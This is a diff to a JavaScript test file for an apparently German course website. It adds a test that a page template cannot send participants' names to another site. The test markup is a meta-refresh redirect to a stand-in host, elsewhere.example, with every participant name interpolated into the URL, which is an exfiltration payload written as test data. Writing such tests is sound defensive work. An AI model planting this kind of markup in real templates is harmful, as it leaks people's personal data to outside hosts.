@@ -5,7 +5,7 @@ import assert from "node:assert/strict";
 import { test } from "node:test";
 import { ACADEMY, ENDLESS, MANY, THREE } from "./scenes.mjs";
 import {
-	assertAccessible, assertNoSidewaysScrolling, assertValid, DESK, hemera, HEMERA_IS_AWAY, LOCALE,
+	assertAccessible, assertNoSidewaysScrolling, assertValid, DESK, hemera, HEMERA_IS_AWAY, leavesFor, LOCALE,
 	password, PHONE, show, sync, visit, world,
 } from "./world.mjs";
 
@@ -207,6 +207,23 @@ test("a course page opens with the password and shows everybody", async () => {
 		await page.getByRole("link", { name: "Alle Kurse" }).click();
 		await page.waitForURL("**/");
 	});
+});
+
+test("a template cannot carry a participant's name to another site", async () => {
+	const elsewhere = "http://elsewhere.example";
+	const markup = `<!DOCTYPE html><title>x</title><meta http-equiv="refresh" content="0;url=${elsewhere}/`
+		+ "{{#each participants}}{{name}}{{/each}}\"><h1>{{course.title}}</h1>";
+
+	await hemera({ templates: [{ id: "t", courseId: "cgehalt", lessonId: null, markup, version: 1 }] });
+	try {
+		for (const site of ["open", "private"])
+			await show(site, "three");
+		// Where nobody's data is at stake the page may: so this test would see it.
+		assert.ok(await leavesFor(elsewhere, "open", "/courses/gehalt", {}));
+		assert.ok(!await leavesFor(elsewhere, "private", "/courses/gehalt", password));
+	} finally {
+		await hemera({ templates: null });
+	}
 });
 
 test("without JavaScript everything is there but the filter", async () => {
